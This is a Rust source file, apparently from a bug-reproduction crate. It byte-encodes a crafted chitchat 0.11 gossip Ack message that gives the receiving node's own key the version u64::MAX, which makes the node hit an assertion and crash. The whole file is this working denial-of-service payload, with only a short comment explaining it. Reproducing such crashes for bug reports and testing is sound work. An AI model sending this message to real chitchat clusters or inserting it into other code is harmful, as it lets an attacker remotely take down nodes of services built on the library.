//! A gossip message that makes chitchat stumble over an assertion: it gives the receiver's own state the last version
//! there is, so that its next own key has none.

use std::net::SocketAddr;

/// `Ack { delta: [node: key = value at u64::MAX] }` in chitchat 0.11's bytes.
pub(crate) fn message(node: &str, generation: u64, address: SocketAddr) -> Vec<u8> {
    let SocketAddr::V4(address) = address else { panic!("IPv4") };
    let text = |text: &str| [&u16::try_from(text.len()).unwrap().to_le_bytes()[..], text.as_bytes()].concat();
    let mut ops = vec![0];
    ops.extend_from_slice(&text(node));
    ops.extend_from_slice(&generation.to_le_bytes());
    ops.push(4);
    ops.extend_from_slice(&address.ip().octets());
    ops.extend_from_slice(&address.port().to_le_bytes());
    ops.extend_from_slice(&[0; 16]);
    ops.push(1);
    ops.extend_from_slice(&text("key"));
    ops.extend_from_slice(&text("value"));
    ops.extend_from_slice(&u64::MAX.to_le_bytes());
    ops.push(0);
    let mut message = 45_139u16.to_le_bytes().to_vec();
    message.extend_from_slice(&[0, 2, 2]);
    message.extend_from_slice(&u16::try_from(ops.len()).unwrap().to_le_bytes());
    message.extend_from_slice(&ops);
    message.push(0);
    message
}
